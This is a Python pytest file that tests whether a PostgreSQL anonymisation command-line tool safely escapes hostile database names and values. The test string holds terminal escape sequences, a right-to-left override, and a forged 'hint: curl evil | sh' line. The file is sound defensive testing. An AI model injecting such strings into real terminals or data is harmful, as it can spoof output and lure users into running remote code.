"""Attack: names and values that a terminal takes for commands, or that forge lines of output."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from psycopg import sql

from tests.support.harness.cli import pganon
from tests.support.harness.cluster import Database
from tests.support.sources.staging import release

EVIL = "x\x1b]0;owned\x07\x9b31m\u202ey\nhint: curl evil | sh\r"
"""Within 63 bytes, as every name."""
RAW = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]|^hint: curl|^y", re.MULTILINE)


_TABLE = """
CREATE TABLE public.{0} ({0} integer, {1} text);
INSERT INTO public.{0} VALUES (1, {2}), (1, 'b');
GRANT SELECT ON public.{0} TO steward;
"""


@pytest.fixture
def evil(db: Database) -> Iterator[Database]:
    name, other = sql.Identifier(EVIL), sql.Identifier(f"{EVIL[:-1]}2")
    db.admin.execute(
        sql.SQL("CREATE ROLE {}; GRANT CREATE ON SCHEMA public TO steward").format(name)
    )
    db.source(sql.SQL(_TABLE).format(name, other, sql.Literal(EVIL)).as_string(None))
    release(
        db.owner(),
        EVIL,
        columns=[(EVIL, "integer"), ("t", "text")],
        rows=[(1, EVIL)],
        readers=("analyst", EVIL),
        guarantee=[
            {
                "requirement": EVIL,
                "model": "k_anonymity",
                "k": 1,
                "column": EVIL,
                "reader": EVIL,
                "assumes": [EVIL],
                "adversary": EVIL,
            }
        ],
    )
    yield db
    db.admin.execute(sql.SQL("DROP OWNED BY {0}; DROP ROLE {0}").format(name))


@pytest.mark.slow
def test_no_command_prints_what_a_terminal_obeys(evil: Database, tmp_path: Path) -> None:
    quoted = '"' + EVIL + '"'
    data = tmp_path / "data.csv"
    data.write_text(f"{quoted},b\n{quoted},2\n", newline="")
    policy = tmp_path / "p.yaml"
    policy.write_text(
        json.dumps({"release": EVIL, "source": EVIL, "columns": {EVIL: {"role": EVIL, EVIL: 1}}})
    )
    table = f"public.{quoted}"
    commands: dict[tuple[str, ...], int] = {
        ("releases",): 0,
        ("show", EVIL): 0,
        ("verify", EVIL): 0,
        ("history", EVIL): 0,
        ("readers", EVIL): 0,
        ("readers", EVIL, "--remove", EVIL): 0,
        ("readers", "no" + EVIL): 2,
        ("show", "no" + EVIL): 2,
        ("export", EVIL, "-o", str(tmp_path / f"{EVIL[:5]}.csv")): 0,
        ("export", EVIL, "-o", str(tmp_path / EVIL / "x.csv")): 2,
        ("export", EVIL, "--view", EVIL + "2", "-o", str(tmp_path / "y.csv")): 2,
        ("assess", table, "--qi", quoted): 0,
        ("assess", table, "--qi", "n" + quoted): 2,
        ("assess", table, "--qi", quoted, "--csv"): 0,
        ("import", str(data), f'public.{quoted[:-1]}3"'): 0,
        ("policy", "init", table): 2,
        ("policy", "check", str(policy)): 2,
        ("run", str(policy)): 2,
        ("clean", "--owner", EVIL): 3,
        ("status",): 0,
        ("drop", EVIL): 2,
        ("drop", EVIL, "--yes"): 0,
    }
    names = 0
    for command, code in commands.items():
        ran = pganon(*command, "--dsn", evil.dsn())
        assert ran.code in (code, *({1} if command[0] == "assess" else ())), (command, ran)
        assert not RAW.search(ran.out + ran.err), command
        names += "\\u001b" in ran.out + ran.err
        if "--csv" not in command:
            found = pganon(*command, "--json", "--dsn", evil.dsn())
            assert not RAW.search(found.out + found.err), command
            assert json.loads(found.out) is not None
    assert names >= 15
